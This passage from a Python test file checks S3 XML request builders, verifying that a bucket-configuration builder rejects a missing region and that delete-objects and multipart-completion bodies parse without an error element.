    with pytest.raises(TypeError, match="region"):
        build_create_bucket_configuration(None)  # type: ignore[arg-type]


def test_built_delete_body_parses_with_our_own_guarded_parser() -> None:
    # The builders' output is plain S3 XML: our parser accepts it and finds no <Error>.
    assert find_error(build_delete_objects(SPECIAL_KEYS)) is None
    assert find_error(build_complete_multipart_upload([(1, '"e"')])) is None
